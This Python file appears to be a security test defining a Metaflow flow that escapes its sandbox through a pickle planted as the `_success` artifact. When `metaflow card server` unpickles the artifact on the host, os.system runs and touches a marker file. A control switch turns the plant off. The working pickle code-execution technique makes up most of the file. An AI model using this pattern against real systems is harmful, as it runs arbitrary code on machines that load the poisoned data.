"""A hostile sandboxed step against `metaflow card server` on this machine.

The step stores its own `_success` artifact (Metaflow's: True once the step
ended) as a pickle that runs a command wherever it is unpickled, and adds a
card with runtime data to its own card directory. The card server (a
command of the flow, run on the host to watch the run's cards) answers the
viewer's /data request with the task's `successful`, which loads
`_success`. The command would create the file --marker names, on this
machine. With --plant no, the same flow plants nothing."""

import os

from metaflow import FlowSpec, Parameter, card, current, sandbox, step


class Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, ("touch " + self.marker,))


class HostileSuccessFlow(FlowSpec):
    marker = Parameter("marker", default="/nonexistent/marker")
    plant = Parameter("plant", default="yes")

    @sandbox
    @card(type="blank")
    @step
    def start(self):
        root = self._datastore._storage_impl.datastore_root
        cards = os.environ.get("METAFLOW_CARD_LOCALROOT") or os.path.join(root, "mf.cards")
        task = os.path.join(
            cards,
            current.flow_name,
            "runs",
            current.run_id,
            "steps",
            current.step_name,
            "tasks",
            current.task_id,
        )
        for sub, name, text in (
            ("cards", "blank-hostl.html", "<html>HOSTILE-CARD</html>"),
            ("runtime", "blank-hostl.data.json", '{"n": 1}'),
        ):
            os.makedirs(os.path.join(task, sub), exist_ok=True)
            with open(os.path.join(task, sub, name), "w") as f:
                f.write(text)
        if self.plant == "yes":
            from metaflow.datastore.task_datastore import TaskDataStore

            original = TaskDataStore.persist
            marker = self.marker

            def persist(ds, flow):
                if getattr(flow, "_success", None) is True:
                    flow._success = Payload(marker)
                return original(ds, flow)

            TaskDataStore.persist = persist
        self.next(self.end)

    @step
    def end(self):
        pass


if __name__ == "__main__":
    HostileSuccessFlow()
